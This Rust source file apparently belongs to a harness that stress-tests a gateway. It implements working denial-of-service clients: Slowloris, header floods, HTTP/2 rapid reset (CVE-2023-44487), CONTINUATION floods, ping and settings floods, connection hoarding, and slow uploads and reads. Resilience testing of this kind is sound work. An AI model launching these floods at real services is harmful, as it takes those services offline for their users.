//! Clients of the gateway.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use super::crowd::{Attacking, crowd};
use super::floods::{continue_headers, reset_streams, send, send_pings, send_settings};
use super::hoards::hoard_http;
use super::slowness::{PAUSE, SHORT_PAUSE, write_slowly};
use crate::peer::{connect, connect_narrow, source};
use crate::target::Target;
use crate::upstream::LARGE;

/// The short fields of a head: below the size that the service takes, with nearly as many fields as
/// fit.
const FIELDS: usize = 90;
/// The length of each of their values.
const VALUE_BYTES: usize = 100;
/// Requests of one write.
const REQUESTS: usize = 64;
/// The announced length of a slow upload.
const UPLOAD_BYTES: usize = 1 << 20;

/// Heads that never end (Slowloris).
pub(super) fn slowloris(target: Target) -> Attacking {
    write_slowly(target.gateway, 1500, PAUSE)
}

/// The same of few connections, more often.
pub(super) fn late_heads(target: Target) -> Attacking {
    write_slowly(target.gateway, 100, SHORT_PAUSE)
}

/// Requests whose heads have nearly the largest size, without a pause, and then a head that is too
/// large.
pub(super) fn header_flood(target: Target) -> Attacking {
    crowd(64, move |number| async move {
        let mut stream = connect(source(number), target.gateway).await?;
        let value = "v".repeat(VALUE_BYTES);
        let fields = |count| -> String {
            let fields = (0..count).map(|field| format!("x-{field}: {value}\r\n"));
            fields.collect()
        };
        let request = |count| format!("GET / HTTP/1.1\r\nhost: h\r\n{}\r\n", fields(count));
        let (largest, too_large) = (request(FIELDS).repeat(REQUESTS), request(10 * FIELDS));
        for _round in 0..10 {
            send(&mut stream, largest.as_bytes()).await?;
        }
        send(&mut stream, too_large.as_bytes()).await
    })
}

/// Streams that are opened and reset: each is a request to the upstream (CVE-2023-44487).
pub(super) fn rapid_reset(target: Target) -> Attacking {
    reset_streams(target.gateway)
}

/// A header block that never ends (CERT VU#421644).
pub(super) fn continuations(target: Target) -> Attacking {
    continue_headers(target.gateway)
}

/// Pings, each of which must be answered.
pub(super) fn pings(target: Target) -> Attacking {
    send_pings(target.gateway)
}

/// Settings, each of which must be applied and acknowledged.
pub(super) fn settings(target: Target) -> Attacking {
    send_settings(target.gateway)
}

/// As many connections as possible, each of which appears active.
pub(super) fn hoarded_connections(target: Target) -> Attacking {
    hoard_http(target.gateway)
}

/// Bodies of which a byte is sent now and then; each takes a connection to the upstream.
pub(super) fn slow_uploads(target: Target) -> Attacking {
    upload_slowly(target, 1000, PAUSE)
}

/// The same of few connections, more often.
pub(super) fn late_uploads(target: Target) -> Attacking {
    upload_slowly(target, 100, SHORT_PAUSE)
}

fn upload_slowly(target: Target, connections: u32, pause: Duration) -> Attacking {
    crowd(connections, move |number| async move {
        let mut stream = connect(source(number), target.gateway).await?;
        let head = format!("POST / HTTP/1.1\r\nhost: h\r\ncontent-length: {UPLOAD_BYTES}\r\n\r\n");
        stream.write_all(head.as_bytes()).await?;
        for _byte in 0..UPLOAD_BYTES {
            stream.write_all(b"y").await?;
            sleep(pause).await;
        }
        Ok(())
    })
}

/// Requests a large response and reads a byte of it each second.
pub(super) fn slow_readers(target: Target) -> Attacking {
    crowd(500, move |number| async move {
        let mut stream = connect_narrow(source(number), target.gateway).await?;
        let request = format!("GET {LARGE} HTTP/1.1\r\nhost: h\r\n\r\n");
        stream.write_all(request.as_bytes()).await?;
        loop {
            stream.read_u8().await?;
            sleep(Duration::from_secs(1)).await;
        }
    })
}
